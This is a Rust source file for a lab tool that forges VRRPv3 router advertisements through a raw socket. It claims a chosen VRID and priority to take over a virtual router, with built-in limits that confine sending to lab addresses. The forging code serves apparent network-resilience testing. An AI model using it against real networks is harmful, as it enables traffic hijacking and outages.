//! `tapvs spoof vrrp`: a bounded sender of forged VRRPv3 adverts, for the lab's hostile-host
//! scenarios (`vrrp-spoof`). Runs in a lab namespace on the LAN, sends `count` adverts for a
//! VRID at a fixed interval from its own address through a raw IP socket (protocol 112, TTL
//! 255, to 224.0.0.18 and/or to unicast addresses), and stops. Destinations outside the lab's
//! 198.18.0.0/15 (but the VRRP group) are refused, and so are unbounded counts or rates.

use crate::sockopt;
use crate::wire::vrrp::{self, AddressList, VrrpPacket, VrrpRepr};
use anyhow::{Context, bail};
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// Most adverts one run sends.
pub const MAX_COUNT: u32 = 10_000;
/// Shortest interval between two adverts.
pub const MIN_INTERVAL: Duration = Duration::from_millis(10);

/// What to forge.
#[derive(Debug, Clone, clap::Args)]
pub struct SpoofVrrpArgs {
    /// The VRID to claim.
    #[arg(long)]
    pub vrid: u8,
    /// The priority to claim (255: the address owner; 0: a resigning master).
    #[arg(long)]
    pub priority: u8,
    /// The virtual addresses the advert lists (the directors' VIPs, so it passes their check).
    #[arg(long, value_delimiter = ',', required = true)]
    pub vip: Vec<Ipv4Addr>,
    /// The sender's own address on the LAN (the advert's source and checksum).
    #[arg(long)]
    pub src: Ipv4Addr,
    /// Where each advert goes: 224.0.0.18 and/or unicast addresses in 198.18.0.0/15.
    #[arg(long, value_delimiter = ',', default_value = "224.0.0.18")]
    pub to: Vec<Ipv4Addr>,
    /// Time between two adverts, e.g. 100ms.
    #[arg(long, value_parser = crate::duration::parse)]
    pub interval: Duration,
    /// How many adverts to send (to each destination).
    #[arg(long)]
    pub count: u32,
    /// Max Adver Int to announce, in centiseconds.
    #[arg(long, default_value_t = 10)]
    pub advert_cs: u16,
}

/// `tapvs spoof ...`.
#[derive(Debug, clap::Subcommand)]
pub enum SpoofCommand {
    /// Forged VRRPv3 adverts.
    Vrrp(SpoofVrrpArgs),
}

/// Whether `addr` may be sent to: the VRRP group or a lab address.
pub fn allowed_destination(addr: Ipv4Addr) -> bool {
    let [a, b, ..] = addr.octets();
    addr == vrrp::GROUP || (a == 198 && (b == 18 || b == 19))
}

/// Checks the bounds; the advert to send.
pub fn plan(args: &SpoofVrrpArgs) -> anyhow::Result<VrrpRepr> {
    if args.count == 0 || args.count > MAX_COUNT {
        bail!("--count must be 1 to {MAX_COUNT}");
    }
    if args.interval < MIN_INTERVAL || args.interval > Duration::from_secs(60) {
        bail!("--interval must be between {MIN_INTERVAL:?} and 60s");
    }
    if let Some(bad) = args.to.iter().find(|a| !allowed_destination(**a)) {
        bail!("--to {bad}: only 224.0.0.18 and lab addresses (198.18.0.0/15)");
    }
    if !allowed_destination(args.src) || args.src.is_multicast() {
        bail!("--src {}: not a lab address", args.src);
    }
    if args.vrid == 0 || args.advert_cs == 0 || args.advert_cs > vrrp::MAX_ADVERT_INT_CS {
        bail!("--vrid must be 1 to 255 and --advert-cs 1 to 4095");
    }
    let addresses = AddressList::from_slice(&args.vip).context("too many --vip addresses")?;
    Ok(VrrpRepr {
        vrid: args.vrid,
        priority: args.priority,
        max_advert_int_cs: args.advert_cs,
        addresses,
    })
}

/// Sends the adverts; prints how many went out.
pub fn run(command: SpoofCommand) -> anyhow::Result<()> {
    let SpoofCommand::Vrrp(args) = command;
    let repr = plan(&args)?;
    let socket = raw_socket(args.src)?;
    // One message per destination: the checksum covers the destination address.
    let messages: Vec<(Ipv4Addr, Vec<u8>)> = args
        .to
        .iter()
        .map(|dst| {
            let mut msg = vec![0u8; repr.buffer_len()];
            repr.emit(&mut VrrpPacket::new_unchecked(&mut msg[..]), args.src, *dst);
            (*dst, msg)
        })
        .collect();
    let start = Instant::now();
    let (mut sent, mut failed) = (0u64, 0u64);
    for k in 0..args.count {
        let due = start + args.interval * k;
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
        for (dst, msg) in &messages {
            match send_to(&socket, msg, *dst) {
                Ok(()) => sent += 1,
                Err(e) => {
                    failed += 1;
                    if failed == 1 {
                        eprintln!("spoof: sending to {dst}: {e}");
                    }
                }
            }
        }
    }
    println!(
        "spoof: {sent} adverts sent ({failed} failed), vrid {} priority {} from {} in {} ms",
        args.vrid,
        args.priority,
        args.src,
        start.elapsed().as_millis()
    );
    Ok(())
}

/// A raw IPv4 socket for protocol 112 bound to `src`, TTL 255 for unicast and multicast.
fn raw_socket(src: Ipv4Addr) -> anyhow::Result<OwnedFd> {
    // SAFETY: plain socket(2); the descriptor is owned at once.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, i32::from(vrrp::PROTOCOL)) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("raw socket (needs CAP_NET_RAW)");
    }
    // SAFETY: `fd` is a fresh descriptor nobody else owns.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let ttl: libc::c_int = i32::from(vrrp::TTL);
    for option in [libc::IP_TTL, libc::IP_MULTICAST_TTL] {
        sockopt::set_int(&socket, libc::IPPROTO_IP, option, ttl)
            .context("setting the TTL to 255")?;
    }
    let addr = sockaddr(src);
    // SAFETY: bind(2) with a valid sockaddr_in and its size.
    let rc = unsafe {
        libc::bind(
            socket.as_raw_fd(),
            (&addr as *const libc::sockaddr_in).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(std::io::Error::last_os_error()).with_context(|| format!("binding to {src}"));
    }
    Ok(socket)
}

fn sockaddr(addr: Ipv4Addr) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(addr).to_be(),
        },
        sin_zero: [0; 8],
    }
}

fn send_to(socket: &OwnedFd, msg: &[u8], dst: Ipv4Addr) -> std::io::Result<()> {
    let addr = sockaddr(dst);
    // SAFETY: sendto(2) with a live buffer and a valid sockaddr_in.
    let n = unsafe {
        libc::sendto(
            socket.as_raw_fd(),
            msg.as_ptr().cast(),
            msg.len(),
            0,
            (&addr as *const libc::sockaddr_in).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    if n < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args() -> SpoofVrrpArgs {
        SpoofVrrpArgs {
            vrid: 51,
            priority: 255,
            vip: vec![Ipv4Addr::new(198, 18, 0, 100)],
            src: Ipv4Addr::new(198, 18, 0, 9),
            to: vec![vrrp::GROUP, Ipv4Addr::new(198, 18, 0, 2)],
            interval: Duration::from_millis(100),
            count: 30,
            advert_cs: 10,
        }
    }

    #[test]
    fn bounds_and_destinations_are_checked() {
        assert_eq!(plan(&args()).unwrap().priority, 255);
        let refused = |f: fn(&mut SpoofVrrpArgs)| {
            let mut a = args();
            f(&mut a);
            plan(&a).is_err()
        };
        assert!(refused(|a| a.count = 0));
        assert!(refused(|a| a.count = MAX_COUNT + 1));
        assert!(refused(|a| a.interval = Duration::from_millis(1)));
        assert!(refused(|a| a.to = vec![Ipv4Addr::new(10, 0, 0, 1)]));
        assert!(refused(|a| a.to = vec![Ipv4Addr::new(224, 0, 0, 1)]));
        assert!(refused(|a| a.src = Ipv4Addr::new(192, 168, 0, 1)));
        assert!(refused(|a| a.vrid = 0));
        assert!(!refused(|a| a.to = vec![Ipv4Addr::new(198, 19, 3, 4)]));
    }
}
